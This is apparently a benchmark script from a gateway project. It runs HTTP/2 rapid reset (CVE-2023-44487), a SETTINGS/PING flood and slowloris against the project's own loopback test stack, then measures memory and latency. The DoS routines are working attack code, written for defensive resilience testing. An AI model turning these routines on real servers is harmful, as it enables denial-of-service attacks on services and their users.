"""The gateway under HTTP abuse: memory and the next request, before, during and after
(issue 11, item 5).

    .venv/bin/python -m bench abuse [--streams 20000] [--flooders 20] [--slowloris 1000]

A whole stack on loopback, as the e2e tests build it: ``tokios-gateway serve`` (TLS from a
trustme CA, its own process), ``tokios-connector`` and a test model server. After a warm-up
(ordinary requests on HTTP/1.1 and HTTP/2), three attacks run one after the other, each from
this process over TLS:

- rapid reset (CVE-2023-44487): HEADERS of a real request (valid key, no END_STREAM) and
  RST_STREAM at once, ``--streams`` in all, reconnecting whenever the gateway cuts the
  connection;
- a SETTINGS and PING flood from ``--flooders`` connections that never read what the gateway
  answers (100,000 frames each, or until cut);
- ``--slowloris`` HTTP/1.1 connections that send a request head a line every 2 s and never
  finish it (the gateway answers 408 after ``--header-timeout``, 10 s).

For each it prints the gateway's RSS before, at its peak during and after the attack ended
(2 s after, and again after the gateway's memory release, every 10 s by default), and how long
an ordinary request takes (a new HTTP/2 connection and a chat completion through the tunnel):
every half second during the attack (median and worst) and right after it, against the warm
baseline. Each attack runs in its own process, so the probe's timings are the gateway's, not
this process's event loop's; all of it shares the machine's cores with the gateway.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import multiprocessing
import signal
import ssl
import statistics
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import httpx
from hyperframe.frame import Frame, GoAwayFrame, PingFrame, SettingsFrame

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from bench.tunnel import machine, rss_kb, table  # noqa: E402
from tests.e2e.stack import Stack  # noqa: E402

CHAT = {"model": "coder", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]}


class Sampler:
    """The gateway's peak RSS while an attack runs (a thread reading /proc every 50 ms)."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.peak = rss_kb(pid)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.wait(0.05):
            with contextlib.suppress(OSError, RuntimeError):
                self.peak = max(self.peak, rss_kb(self.pid))

    def __enter__(self) -> Sampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(2)


@dataclass(frozen=True)
class Target:
    """What an attacker process needs to reach the gateway."""

    port: int
    key: str
    ca_file: str

    def tls(self, alpn: str) -> ssl.SSLContext:
        ctx = ssl.create_default_context(cafile=self.ca_file)
        ctx.set_alpn_protocols([alpn])
        return ctx


async def next_request_ms(target: Target, ctx: ssl.SSLContext) -> float:
    """A new HTTP/2 connection and one chat completion through the tunnel, in ms; infinity
    if it fails (or takes over 30 s)."""
    started = time.perf_counter()
    try:
        async with httpx.AsyncClient(http2=True, verify=ctx, timeout=30) as client:
            reply = await client.post(f"https://127.0.0.1:{target.port}/v1/chat/completions",
                                      json=CHAT,
                                      headers={"authorization": f"Bearer {target.key}"})
    except httpx.HTTPError:
        return float("inf")
    if reply.status_code != 200:
        return float("inf")
    return (time.perf_counter() - started) * 1000


def ms(values: list[float]) -> str:
    """Median / worst of probe times; failed probes are counted."""
    done = [v for v in values if v != float("inf")]
    failed = len(values) - len(done)
    text = f"{statistics.median(done):.0f} / {max(done):.0f}" if done else "-"
    return text + (f" ({failed} of {len(values)} failed)" if failed else "")


async def h2_connect(target: Target, ctx: ssl.SSLContext) -> tuple[
        asyncio.StreamReader, asyncio.StreamWriter, h2.connection.H2Connection]:
    reader, writer = await asyncio.open_connection("127.0.0.1", target.port, ssl=ctx,
                                                   server_hostname="localhost")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding=None))
    conn.initiate_connection()
    writer.write(conn.data_to_send())
    return reader, writer, conn


async def send(writer: asyncio.StreamWriter, data: bytes) -> bool:
    try:
        writer.write(data)
        async with asyncio.timeout(5):
            await writer.drain()
    except (ConnectionError, ssl.SSLError, RuntimeError, TimeoutError):
        return False
    return not writer.transport.is_closing()


async def goaway(reader: asyncio.StreamReader, timeout: float = 10) -> int | None:
    """Read what the gateway sends until its GOAWAY (return the error code) or the end."""
    data = bytearray()
    with contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError):
        async with asyncio.timeout(timeout):
            while chunk := await reader.read(65536):
                data += chunk
                while len(data) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(data)[:9])
                    if len(data) < 9 + length:
                        break
                    frame.parse_body(memoryview(data)[9:9 + length])
                    del data[:9 + length]
                    if isinstance(frame, GoAwayFrame):
                        return int(frame.error_code)
    return None


async def rapid_reset(target: Target, streams: int) -> str:
    """HEADERS of a real request + RST_STREAM, 100 pairs per write, reconnecting when cut."""
    ctx = target.tls("h2")
    headers = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"localhost"),
               (b":path", b"/v1/chat/completions"), (b"content-type", b"application/json"),
               (b"authorization", f"Bearer {target.key}".encode())]
    sent = connections = calmed = 0
    while sent < streams:
        reader, writer, conn = await h2_connect(target, ctx)
        watcher = asyncio.create_task(goaway(reader))
        connections += 1
        while sent < streams and not watcher.done():
            for _ in range(100):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, headers)
                conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            sent += 100
            if not await send(writer, conn.data_to_send()):
                break
            await asyncio.sleep(0)  # let the watcher read
        if await watcher == h2.errors.ErrorCodes.ENHANCE_YOUR_CALM:
            calmed += 1
        writer.transport.abort()
    return (f"{sent:,} streams opened and reset over {connections} connections; "
            f"{calmed} ended with GOAWAY(ENHANCE_YOUR_CALM)")


async def flood(target: Target, flooders: int) -> str:
    """SETTINGS and PING frames whose answers are never read, from several connections."""
    ctx = target.tls("h2")
    batch = (SettingsFrame(0).serialize()
             + PingFrame(0, opaque_data=b"bench123").serialize()) * 500

    async def one() -> tuple[int, bool]:
        reader, writer, _ = await h2_connect(target, ctx)
        writer.transport.pause_reading()
        sent = 0
        while sent < 100_000 and await send(writer, batch):
            sent += 1000
        writer.transport.resume_reading()
        calm = await goaway(reader) == h2.errors.ErrorCodes.ENHANCE_YOUR_CALM
        writer.transport.abort()
        return sent, calm

    results = await asyncio.gather(*(one() for _ in range(flooders)))
    total = sum(sent for sent, _ in results)
    calmed = sum(1 for _, calm in results if calm)
    return (f"{flooders} connections wrote {total:,} SETTINGS/PING frames without reading "
            f"(100,000 each at most, counting what the kernel took after the cut); {calmed} "
            f"ended with GOAWAY(ENHANCE_YOUR_CALM)")


async def slowloris(target: Target, clients: int) -> str:
    """HTTP/1.1 heads that never end, a line every 2 s; each should get 408 and a close."""
    ctx = target.tls("http/1.1")
    answered = opened = 0

    async def one(i: int) -> None:
        nonlocal answered, opened
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", target.port, ssl=ctx, server_hostname="localhost")
        except (OSError, ssl.SSLError):
            return
        opened += 1
        writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n")
        reply = b""
        with contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError):
            async with asyncio.timeout(40):
                line = 0
                while not reply:
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(2):
                            reply = await reader.read(4096)
                            break
                    writer.write(b"x-slow-%d: %d\r\n" % (i, line))
                    line += 1
        if reply.startswith(b"HTTP/1.1 408"):
            answered += 1
        writer.close()

    tasks = []
    for i in range(clients):  # in waves, so the handshakes do not all land at once
        tasks.append(asyncio.create_task(one(i)))
        if i % 50 == 49:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks)
    return f"{opened:,} connections with unfinished heads; {answered:,} got 408"


def _attack(name: str, target: Target, amount: int, out: multiprocessing.Queue[str]) -> None:
    attacks = {"rapid_reset": rapid_reset, "flood": flood, "slowloris": slowloris}
    out.put(asyncio.run(attacks[name](target, amount)))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--streams", type=int, default=20_000,
                        help="rapid reset: streams opened and reset (default 20,000)")
    parser.add_argument("--flooders", type=int, default=20,
                        help="SETTINGS/PING flood: connections (default 20)")
    parser.add_argument("--slowloris", type=int, default=1000,
                        help="slowloris: connections (default 1,000)")
    args = parser.parse_args()

    def out_of_time(signum: int, frame: object) -> None:
        raise TimeoutError("bench/abuse: over its 400 s limit")

    signal.signal(signal.SIGALRM, out_of_time)
    signal.alarm(400)
    print(f"machine: {machine()}")
    print("gateway: tokios-gateway serve (TLS, defaults), connector and a test model server; "
          "each attack in its own process, the probe client in this one, all over TLS.\n",
          flush=True)
    spawn = multiprocessing.get_context("spawn")
    with tempfile.TemporaryDirectory() as tmp:
        stack = Stack(workdir=Path(tmp), backend="llamacpp", upstream_model="m",
                      log_level="warning")
        with stack.running():
            assert stack.gateway is not None
            pid = stack.gateway.pid
            target = Target(stack.port, stack.key, str(stack.ca_file))
            probe_ctx = stack.ssl_context()
            rows: list[list[str]] = []

            def probe() -> float:
                return asyncio.run(next_request_ms(target, probe_ctx))

            for _ in range(40):  # warm-up: the same request, on fresh connections
                probe()
            baseline_ms = statistics.median(probe() for _ in range(10))
            time.sleep(1)
            baseline = rss_kb(pid)
            print(f"baseline: RSS {baseline:,} KB; next request {baseline_ms:.1f} ms",
                  flush=True)

            def phase(name: str, attack: str, amount: int) -> None:
                before = rss_kb(pid)
                during: list[float] = []
                results: multiprocessing.Queue[str] = spawn.Queue()
                attacker = spawn.Process(target=_attack, args=(attack, target, amount, results))
                with Sampler(pid) as sampler:
                    attacker.start()
                    time.sleep(0.5)
                    while attacker.is_alive():
                        during.append(probe())
                        attacker.join(0.5)
                what = results.get(timeout=10)
                time.sleep(2)
                after = rss_kb(pid)
                after_ms = statistics.median(probe() for _ in range(5))  # inf if most failed
                time.sleep(10)  # the gateway's memory release runs every 10 s
                released = rss_kb(pid)
                rows.append([
                    name, f"{before:,}", f"{sampler.peak:,}", f"{after:,}", f"{released:,}",
                    f"{released - baseline:+,}",
                    ms(during), ms([after_ms]), what])
                print(f"{name}: {what}; RSS {before:,} -> peak {sampler.peak:,} -> {after:,} "
                      f"-> {released:,} KB; next request {ms([after_ms])} ms", flush=True)

            phase("rapid reset", "rapid_reset", args.streams)
            phase("SETTINGS/PING flood, never read", "flood", args.flooders)
            phase(f"{args.slowloris:,} slowloris clients", "slowloris", args.slowloris)
            print(f"\n### Gateway under abuse (baseline RSS {baseline:,} KB, next request "
                  f"{baseline_ms:.1f} ms)\n")
            print(table(["phase", "RSS KB before", "peak during", "2 s after",
                         "after memory release", "vs baseline",
                         "request ms during (median / worst)", "request ms after",
                         "what happened"], rows))
            print(flush=True)


if __name__ == "__main__":
    main()
